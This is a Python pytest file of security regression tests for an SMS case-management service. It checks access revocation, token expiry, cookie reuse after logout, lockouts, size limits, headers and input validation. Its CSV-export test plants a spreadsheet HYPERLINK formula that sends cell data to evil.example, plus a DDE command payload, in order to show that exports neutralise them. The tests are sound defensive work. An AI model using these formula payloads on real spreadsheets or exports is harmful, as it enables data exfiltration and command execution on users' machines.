"""What a security review and recorded Africa's Talking traffic found (issue 17), each case
labelled by its reproduction, and what holds instead."""

from __future__ import annotations

import csv
import io
import re
from datetime import timedelta

import pytest
from sqlalchemy import select

from sms_service.db import utcnow
from sms_service.models import ApiToken, Broadcast, Client, FollowUpTask, InboundMessage, Transfer, User
from tests.support.logins import csrf_of, form_post, log_in
from tests.support.people import PASSWORD, two_mentor_mothers

TOKEN = "hardening-token"


@pytest.fixture
def app(make_app):
    return make_app(WEBHOOK_TOKEN=TOKEN)


@pytest.fixture
def people(services):
    return two_mentor_mothers(services)


def bearer(token: str) -> dict:
    return {"Authorization": f"Bearer {token}"}


def text_of(answer) -> str:
    return answer.get_data(as_text=True)


# -- access that outlives its reason -------------------------------------------------------------


def test_get_tasks_then_done_as_her_old_mentor_mother_after_she_moved_to_another(client, services, people):
    """Steps: Amina moves from Zawadi to Imani by a clients re-import; Zawadi asks
    GET /api/v1/tasks?status=all, then POST /api/v1/tasks/ID/done."""
    from sms_service.importing import import_rows

    with services.db.session() as s:
        report = import_rows(
            s,
            "clients",
            [
                (
                    2,
                    {
                        "client_id": "C-Amina",
                        "first_name": "Amina",
                        "phone": "+254700000001",
                        "facility_code": "F1",
                        "mentor_mother_code": "MM2",
                    },
                )
            ],
        )
        assert report.updated == 1
    zawadi, imani = bearer(people.tokens["zawadi"]), bearer(people.tokens["imani"])
    task = people.tasks["Amina"]
    listed = client.get("/api/v1/tasks?status=all", headers=zawadi).json["items"]
    assert task not in [t["id"] for t in listed]
    assert client.post(f"/api/v1/tasks/{task}/done", json={"outcome": "reached"}, headers=zawadi).status_code == 404
    assert task in [t["id"] for t in client.get("/api/v1/tasks", headers=imani).json["items"]]
    with services.db.session() as s:
        assert s.get(FollowUpTask, task).mentor_mother_id == s.scalar(
            select(Client.mentor_mother_id).where(Client.external_id == "C-Amina")
        )  # her open task moved with her


def test_receiving_supervisor_reads_the_client_after_the_transfer_to_her_clinic_was_cancelled(client, services, people):
    tumaini = bearer(people.tokens["tumaini"])
    assert client.get("/api/v1/clients/C-Beth", headers=tumaini).status_code == 200  # coming to her clinic
    assert (
        client.post(
            f"/api/v1/transfers/{people.transfer_id}/outcome",
            json={"outcome": "cancelled"},
            headers=bearer(people.tokens["admin"]),
        ).status_code
        == 200
    )
    assert client.get("/api/v1/clients/C-Beth", headers=tumaini).status_code == 404
    assert client.get(f"/api/v1/transfers/{people.transfer_id}", headers=tumaini).status_code == 404


def supervisor_with_two_tokens(services) -> tuple[str, str]:
    from sms_service.api.auth import issue

    with services.db.session() as s:
        user = s.scalar(select(User).where(User.username == "mwangaza"))
        return (issue(s, "desk phone", user=user), issue(s, "desk laptop", user=user))


def test_a_supervisors_second_token_approves_a_broadcast_made_with_her_first(make_app, services):
    app = make_app(BROADCAST_APPROVAL_ABOVE="1")
    people = two_mentor_mothers(services)
    first, second = supervisor_with_two_tokens(services)
    made = app.test_client().post(
        "/api/v1/broadcasts", json={"text_en": "Clinic day on Saturday."}, headers=bearer(first)
    )
    assert made.status_code == 201 and made.json["status"] == "awaiting_approval"
    refused = app.test_client().post(f"/api/v1/broadcasts/{made.json['id']}/approve", headers=bearer(second))
    assert refused.status_code == 409 and "someone other than its author" in refused.json["error"]
    page = app.test_client()
    log_in(page, "mwangaza")  # her dashboard login: the same person
    form_post(page, f"/broadcasts/{made.json['id']}/approve", {}, page="/broadcasts")
    with services.db.session() as s:
        assert s.get(Broadcast, made.json["id"]).status == "awaiting_approval"
    approved = app.test_client().post(
        f"/api/v1/broadcasts/{made.json['id']}/approve", headers=bearer(people.tokens["admin"])
    )
    assert approved.status_code == 200


def test_disabling_an_account_ends_its_api_tokens_and_tokens_expire(runner, services, people, client):
    first, _ = supervisor_with_two_tokens(services)
    assert client.get("/api/v1/tasks", headers=bearer(first)).status_code == 200
    assert runner.invoke(args=["users", "disable", "mwangaza"]).exit_code == 0
    assert client.get("/api/v1/tasks", headers=bearer(first)).status_code == 401
    with services.db.session() as s:
        for token in s.scalars(select(ApiToken)):
            assert token.expires_at is not None and token.expires_at - token.created_at == timedelta(days=365)
        s.scalar(select(ApiToken).where(ApiToken.name == "Zawadi")).expires_at = utcnow() - timedelta(seconds=1)
    assert client.get("/api/v1/tasks", headers=bearer(people.tokens["zawadi"])).status_code == 401
    listed = runner.invoke(args=["api-tokens", "list"]).output
    assert re.search(r"Zawadi\s.*expired", listed) and re.search(r"desk phone\s.*user mwangaza", listed)
    made = runner.invoke(args=["api-tokens", "add", "clinic system", "--user", "tumaini", "--days", "30"])
    assert made.exit_code == 0 and made.output.strip().startswith("sms_")


def test_a_copied_cookie_stops_working_when_she_logs_out(app, people):
    browser = app.test_client()
    log_in(browser, "zawadi")
    stolen = browser.get_cookie("session").value
    thief = app.test_client()
    thief.set_cookie("session", stolen)
    assert thief.get("/tasks").status_code == 200
    browser.post("/logout", data={"csrf_token": csrf_of(browser, "/tasks")})
    assert thief.get("/tasks").status_code == 302  # to the login page


# -- denial of service and lockouts --------------------------------------------------------------


def test_a_31_mb_form_to_any_path_is_refused_unread_and_ussd_still_answers(app, people):
    client = app.test_client()
    body = b"a=&" * (31 * 1024 * 1024 // 3)
    for path in ("/login", f"/webhooks/sms?token={TOKEN}", "/api/v1/transfers", "/nowhere"):
        answer = client.post(path, data=body, content_type="application/x-www-form-urlencoded")
        assert answer.status_code == 413, path
    big_ussd = client.post(f"/webhooks/ussd?token={TOKEN}", data=body, content_type="application/x-www-form-urlencoded")
    assert big_ussd.status_code == 200 and text_of(big_ussd).startswith("END ")
    ussd = client.post(
        f"/webhooks/ussd?token={TOKEN}", data={"sessionId": "s1", "phoneNumber": "+254700000001", "text": ""}
    )
    assert ussd.status_code == 200 and text_of(ussd).startswith("CON ")


def test_each_route_takes_the_size_it_really_carries(app, people):
    client = app.test_client()
    log_in(client, "admin")
    upload = "client_id,first_name,phone,facility_code\n" + "".join(
        f"C{i},Name,+2547000{i:05d},F1\n" for i in range(40_000)
    )  # a CSV of 1.5 MB: an upload carries it
    assert len(upload) > 1_000_000
    answer = client.post(
        "/imports",
        data={
            "kind": "clients",
            "dry_run": "1",
            "csrf_token": csrf_of(client, "/imports"),
            "file": (io.BytesIO(upload.encode()), "clients.csv"),
        },
    )
    assert answer.status_code == 200
    assert client.post("/login", data={"username": "x" * 20_000, "password": "y"}).status_code == 413


def test_head_login_never_counts_as_a_failed_login(client, people):
    for _ in range(30):
        assert client.head("/login").status_code == 200
    assert log_in(client, "zawadi").status_code == 302


def login_from(client, username: str, password: str, address: str | None = None):
    """A login tried as the page does it (its CSRF token), from `address` behind the proxy."""
    headers = {"X-Forwarded-For": address} if address else {}
    return client.post(
        "/login", data={"username": username, "password": password, "csrf_token": csrf_of(client)}, headers=headers
    )


def test_a_locked_account_an_unknown_name_and_a_wrong_password_get_the_same_answer(make_app, people):
    answers = set()
    for username, password in (("nobody-here", "whatever"), ("zawadi", "not-her-password")):
        answer = login_from(make_app().test_client(), username, password)
        answers.add((answer.status_code, without_tokens(text_of(answer))))
    attacker = make_app().test_client()
    for _ in range(6):  # enough to lock her under the old rule
        login_from(attacker, "zawadi", "guess")
    locked = login_from(attacker, "zawadi", "guess")
    answers.add((locked.status_code, without_tokens(text_of(locked))))
    assert len(answers) == 1 and answers.pop()[0] == 401


def without_tokens(page: str) -> str:
    """The page as a person reads it: its CSRF tokens (each session's own) left out."""
    return re.sub(r'(csrf-token" content|name="csrf_token" value)="[^"]+"', "", page)


def test_an_attacker_at_one_address_does_not_lock_her_out_from_her_own_phone(make_app, people):
    app = make_app(TRUSTED_PROXIES="1")
    attacker = app.test_client()
    for _ in range(12):
        login_from(attacker, "zawadi", "guess", "198.51.100.7")
    assert login_from(attacker, "zawadi", PASSWORD, "198.51.100.7").status_code == 401  # slowed: that pair
    assert login_from(app.test_client(), "zawadi", PASSWORD, "203.0.113.9").status_code == 302  # her phone


def test_many_failures_at_many_addresses_lock_the_account_itself(make_app, services, people):
    from sms_service.accounts.users import ACCOUNT_FAILURES

    app = make_app(TRUSTED_PROXIES="1")
    for i in range(ACCOUNT_FAILURES):
        login_from(app.test_client(), "imani", "guess", f"198.51.100.{i % 250}")
    assert login_from(app.test_client(), "imani", PASSWORD, "203.0.113.9").status_code == 401
    with services.db.session() as s:
        assert s.scalar(select(User.locked_until).where(User.username == "imani")) > utcnow()


# -- broadcast codes -----------------------------------------------------------------------------

_SENT = [0]  # a counter across calls: each SMS its own provider id


def sms(app, services, phone: str, text: str, n=_SENT):
    from sms_service.inbound.route import handle_inbound_sms
    from sms_service.models import OutboundMessage

    n[0] += 1
    assert (
        app.test_client()
        .post(f"/webhooks/sms?token={TOKEN}", data={"id": f"ATXin_h{n[0]}", "from": phone, "to": "12345", "text": text})
        .status_code
        == 200
    )
    with services.db.session() as s:
        inbound = s.scalar(select(InboundMessage.id).where(InboundMessage.provider_id == f"ATXin_h{n[0]}"))
    ids = handle_inbound_sms(services, inbound)
    with services.db.session() as s:
        return [s.get(OutboundMessage, i).body for i in ids]


ZAWADI = "+254700000900"


def test_three_wrong_broadcast_codes_cancel_it_and_tell_her(app, services, people):
    [preview] = sms(app, services, ZAWADI, "BC Kliniki itafungwa Ijumaa.")
    code = re.search(r"NDIO (\d{4})", preview).group(1)
    wrong = next(c for c in ("1111", "2222", "3333", "4444") if c != code)
    replies = [sms(app, services, ZAWADI, f"NDIO {wrong}")[0] for _ in range(3)]
    assert "si sahihi" in replies[0] and "si sahihi" in replies[1]  # told it is wrong, and how many are left
    assert "haukutumwa" in replies[2].lower()  # the third: cancelled, and she is told
    with services.db.session() as s:
        assert s.scalar(select(Broadcast.status)) == "cancelled"
    assert "haukutumwa" in sms(app, services, ZAWADI, f"NDIO {code}")[0].lower()  # the right code, too late


def test_a_code_used_again_says_the_broadcast_went_with_its_count(app, services, people):
    [preview] = sms(app, services, ZAWADI, "BC Kliniki itafungwa Ijumaa.")
    code = re.search(r"NDIO (\d{4})", preview).group(1)
    first = sms(app, services, ZAWADI, f"NDIO {code}")[0]
    again = sms(app, services, ZAWADI, f"NDIO {code}")[0]
    assert "2" in first and "tayari" in again.lower() and "2" in again  # already sent, to her 2 clients
    assert "BC" not in again  # never an invitation to send it twice
    with services.db.session() as s:
        assert len(s.scalars(select(Broadcast)).all()) == 1


# -- what the service writes for others ----------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?"&C2,"Open")'


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_a_formula_in_a_first_name_or_a_reason_reaches_no_spreadsheet(client, services, people):
    with services.db.session() as s:
        s.get(Client, people.clients["Beth"]).first_name = FORMULA
        s.get(Transfer, people.transfer_id).reason = "+cmd|' /C calc'!A0"
    admin = bearer(people.tokens["admin"])
    for path in ("/api/v1/transfers/referrals/F2.csv", "/api/v1/transfers/report.csv"):
        answer = client.get(path, headers=admin)
        assert answer.status_code == 200
        written = cells(text_of(answer))
        assert not [c for c in written if c[:1] in ("=", "+", "-", "@", "\t", "\r")], (path, written)
        assert "attachment" in answer.headers["Content-Disposition"]
    assert f"'{FORMULA}" in cells(text_of(client.get("/api/v1/transfers/referrals/F2.csv", headers=admin)))


def test_a_facility_code_is_letters_digits_dashes_and_underscores(services, tmp_path):
    from sms_service.importing import import_csv

    path = tmp_path / "facilities.csv"
    path.write_text('code,name\nF-1_a,Good\n"=1+1",Bad\nF 2,Bad\n"F;3",Bad\n')
    with services.db.session() as s:
        report = import_csv(s, "facilities", path)
    assert report.created == 1 and [e.line for e in report.errors] == [3, 4, 5]
    assert all("code: letters, digits" in e.reason for e in report.errors)


def test_every_page_refuses_framing_sniffing_and_caching_where_it_shows_a_client(client, people):
    log_in(client, "admin")
    for path in ("/login", "/tasks", "/clients", f"/clients/{people.clients['Amina']}", "/api/v1/openapi.json"):
        answer = client.get(path)
        assert answer.headers["X-Frame-Options"] == "DENY", path
        assert "frame-ancestors 'none'" in answer.headers["Content-Security-Policy"], path
        assert answer.headers["X-Content-Type-Options"] == "nosniff", path
        assert answer.headers["Referrer-Policy"] == "same-origin", path
    for path in ("/tasks", "/clients", f"/clients/{people.clients['Amina']}", "/messages", "/transfers"):
        assert "no-store" in client.get(path).headers["Cache-Control"], path


@pytest.mark.parametrize(
    "password, why",
    [
        (" " * 10, "only spaces"),
        ("zawadi-the-mm", "too common or too like the username"),
        ("password123", "too common"),
        ("qwertyuiop", "too common"),
    ],
)
def test_weak_passwords_are_refused(services, password, why):
    from sms_service.accounts.users import AccountRefused, add

    with services.db.session() as s, pytest.raises(AccountRefused):
        add(s, "zawadi-the-mm", name="Zawadi", role="admin", password=password)
    with services.db.session() as s, pytest.raises(AccountRefused):
        add(s, "zawadi-the-mm", name="Zawadi", role="admin", password="zawadi-the-mm")


@pytest.mark.parametrize(
    "body, field",
    [
        ({"text_en": ["a"]}, "text_en"),
        ({"filters": "x", "text_en": "Hello"}, "filters"),
        ({"text_en": 5}, "text_en"),
        ({"text_en": "Hello", "send_at": 5}, "send_at"),
        ({"text_en": "Hello", "preview": "yes"}, "preview"),
    ],
)
def test_malformed_json_is_refused_naming_the_field(client, people, body, field):
    answer = client.post("/api/v1/broadcasts", json=body, headers=bearer(people.tokens["admin"]))
    assert answer.status_code == 400 and field in answer.json["error"] + " ".join(answer.json.get("problems", []))


@pytest.mark.parametrize(
    "path, body, field",
    [  # found by the API fuzz test once its cases changed: `dry_run: null` went through as a request
        ("/api/v1/transfers", {"transfers": [], "dry_run": None}, "dry_run"),
        (
            "/api/v1/transfers",
            {"transfers": [{"client_id": "C1", "to_facility_code": "F2", "effective_date": "2026-12-20", "reason": 5}]},
            "reason",
        ),
        (
            "/api/v1/transfers",
            {
                "transfers": [
                    {"client_id": "C1", "to_facility_code": "F2", "effective_date": "2026-12-20", "reason": None}
                ]
            },
            "reason",
        ),
        (
            "/api/v1/site-closures",
            {"site": "F1", "to": "F2", "effective_date": "2026-12-20", "dry_run": "yes"},
            "dry_run",
        ),
        ("/api/v1/site-closures", {"site": "F1", "to": 7, "effective_date": "2026-12-20"}, "to"),
        ("/api/v1/broadcasts", {"text_en": "Hello", "text_sw": None}, "text_sw"),
    ],
)
def test_a_null_or_a_wrong_type_where_the_document_allows_neither_is_refused_naming_the_field(
    client, people, path, body, field
):
    answer = client.post(path, json=body, headers=bearer(people.tokens["admin"]))
    assert answer.status_code == 400 and field in answer.json["error"] + " ".join(answer.json.get("problems", []))


def test_a_record_whose_date_is_no_date_is_refused_by_index_as_the_document_says(client, people):
    # found by the API fuzz test: the document said `format: date` for a record's date, which
    # made a request with one bad record invalid as a whole, while the loader refuses it alone
    rows = [{"client_id": "C1", "to_facility_code": "F2", "effective_date": "2024-13-01"}]
    answer = client.post("/api/v1/transfers", json={"transfers": rows}, headers=bearer(people.tokens["admin"]))
    assert answer.status_code == 200 and answer.json["refused"] == 1
    assert answer.json["errors"][0]["item"] == 1 and "effective_date" in answer.json["errors"][0]["error"]
    row = client.get("/api/v1/openapi.json").json["components"]["schemas"]["TransfersRequest"]
    assert "format" not in row["properties"]["transfers"]["items"]["properties"]["effective_date"]


@pytest.mark.parametrize(
    "path, body, field",
    [  # Python's fromisoformat takes more than the document's YYYY-MM-DD and HH:MM
        ("/api/v1/site-closures", {"site": "F1", "to": "F2", "effective_date": "20261220"}, "effective_date"),
        ("/api/v1/appointments/1/reschedule", {"date": "20261220"}, "date"),
        ("/api/v1/appointments/1/reschedule", {"date": "2026-12-20", "time": "09:30:00"}, "time"),
    ],
)
def test_dates_and_times_are_read_as_the_document_writes_them(client, people, path, body, field):
    answer = client.post(path, json=body, headers=bearer(people.tokens["admin"]))
    assert answer.status_code == 400 and field in answer.json["error"]


def test_a_date_out_of_range_is_refused_naming_it(client, people):
    answer = client.get("/api/v1/messages?since=0001-01-01", headers=bearer(people.tokens["admin"]))
    assert answer.status_code == 400 and "since" in answer.json["error"]


def test_metrics_need_their_token_and_health_says_no_more_than_ok(make_app, people):
    client = make_app(METRICS_TOKEN="m" * 24).test_client()
    assert client.get("/metrics").status_code == 401
    assert client.get("/metrics", headers=bearer("wrong")).status_code == 401
    assert client.get("/metrics", headers=bearer("m" * 24)).status_code == 200
    health = client.get("/healthz")
    assert health.status_code == 200 and health.json == {"status": "ok"}


def test_the_simulator_needs_a_login_unless_the_service_listens_on_loopback(make_app, people):
    open_app = make_app(SIMULATOR_OPEN="1").test_client()
    assert open_app.get("/simulator").status_code == 200
    closed = make_app().test_client()  # outbox, but not the local runner on loopback
    assert closed.get("/simulator").status_code in (302, 404)
    assert closed.get("/simulator/inbox?phone=%2B254700000001").status_code in (302, 404)
    log_in(closed, "zawadi")
    assert closed.get("/simulator").status_code == 404  # an admin's tool
    log_in(closed, "admin")
    assert closed.get("/simulator").status_code == 200


# -- Africa's Talking's real traffic -------------------------------------------------------------


@pytest.mark.parametrize("sender", ["MTN", "+15555550100", "12345", ""])
def test_an_sms_from_a_number_we_cannot_use_is_stored_refused_and_answered_200(app, services, sender):
    answer = app.test_client().post(
        f"/webhooks/sms?token={TOKEN}",
        data={
            "id": f"ATXin_{sender or 'blank'}",
            "from": sender,
            "to": "12345",
            "text": "hello",
            "date": "2026-12-01 06:00:00",
        },
    )
    assert answer.status_code == 200
    with services.db.session() as s:
        stored = s.scalar(select(InboundMessage).where(InboundMessage.provider_id == f"ATXin_{sender or 'blank'}"))
        assert stored.refused == "unusable_number" and stored.handled_at is not None


def test_an_opt_out_from_an_unusable_number_is_answered_200(app):
    answer = app.test_client().post(f"/webhooks/sms/optout?token={TOKEN}", data={"senderId": "X", "phoneNumber": "MTN"})
    assert answer.status_code == 200


def test_failure_reason_none_on_a_buffered_report_is_no_reason():
    from sms_service.gateway.africastalking import parse_delivery_report

    update = parse_delivery_report({"id": "ATXid_1", "status": "Buffered", "failureReason": "none"})
    assert (update.status, update.reason) == ("in_flight", None)


@pytest.mark.parametrize("status_code", ["101", 101, "Success", None, 599])
def test_a_recipient_with_a_real_message_id_is_never_retried(status_code):
    from sms_service.gateway import Outcome
    from sms_service.gateway.africastalking import parse_answer

    answer = {
        "SMSMessageData": {
            "Recipients": [
                {
                    "statusCode": status_code,
                    "number": "+254700000001",
                    "status": "Success",
                    "messageId": "ATXid_abc",
                    "cost": "KES 0.8",
                }
            ]
        }
    }
    [result] = parse_answer(answer, ["+254700000001"])
    assert (result.outcome, result.provider_message_id) == (Outcome.ACCEPTED, "ATXid_abc")


@pytest.mark.parametrize(
    "date, sent",
    [
        ("2017-05-03T06:04:45Z", "2017-05-03T06:04:45+00:00"),
        ("2017-05-03 06:04:45", "2017-05-03T06:04:45+00:00"),
        ("yesterday", None),
        (None, None),
    ],
)
def test_the_sms_keeps_its_own_time_beside_its_arrival(app, services, date, sent):
    form = {"id": f"ATXin_d{date}", "from": "+254700000001", "to": "12345", "text": "hi"}
    if date is not None:
        form["date"] = date
    assert app.test_client().post(f"/webhooks/sms?token={TOKEN}", data=form).status_code == 200
    with services.db.session() as s:
        stored = s.scalar(select(InboundMessage).where(InboundMessage.provider_id == form["id"]))
        assert (stored.sent_at.isoformat() if stored.sent_at else None) == sent and stored.received_at is not None


def test_a_retry_hours_late_is_answered_for_the_day_it_was_written(app, services, people):
    """AT posts again for up to 12 hours: yesterday's SMS arriving this morning is yesterday's
    (her one automatic reply a day is counted by the day she wrote)."""
    from sms_service.inbound.route import handle_inbound_sms
    from sms_service.models import OutboundMessage

    client = app.test_client()
    yesterday, today = "2026-11-30 15:00:00", "2026-12-01 06:00:00"  # UTC: 18:00 yesterday, 09:00 today
    for n, when in enumerate((yesterday, today)):
        client.post(
            f"/webhooks/sms?token={TOKEN}",
            data={
                "id": f"ATXin_late{n}",
                "from": "+254700000001",
                "to": "12345",
                "text": "I lost my book",
                "date": when,
            },
        )
    with services.db.session() as s:
        ids = s.scalars(select(InboundMessage.id).order_by(InboundMessage.id)).all()
    for inbound in ids:
        handle_inbound_sms(services, inbound)
    with services.db.session() as s:
        acks = s.scalars(select(OutboundMessage.subject).where(OutboundMessage.subject.like("auto_ack:%"))).all()
    assert sorted(acks) == ["auto_ack:2026-11-30", "auto_ack:2026-12-01"]  # each day's own reply


def test_a_documented_outcome_that_a_task_cannot_take_is_a_conflict_not_a_malformed_request(client, people):
    """The fuzzer's find: POST /api/v1/tasks/ID/done {"outcome": "arrived"} on a task that is not
    about a transfer answered 400 though the document lists the value."""
    zawadi = bearer(people.tokens["zawadi"])
    answer = client.post(f"/api/v1/tasks/{people.tasks['Amina']}/done", json={"outcome": "arrived"}, headers=zawadi)
    assert answer.status_code == 409 and "reached" in answer.json["error"]
    assert (
        client.post(
            f"/api/v1/tasks/{people.tasks['Amina']}/done", json={"outcome": "eloped"}, headers=zawadi
        ).status_code
        == 400
    )


def test_an_empty_since_is_no_date(client, people):
    """The fuzzer's find: GET /api/v1/messages?since= was answered 200 as if no date were given."""
    assert client.get("/api/v1/messages?since=", headers=bearer(people.tokens["admin"])).status_code == 400
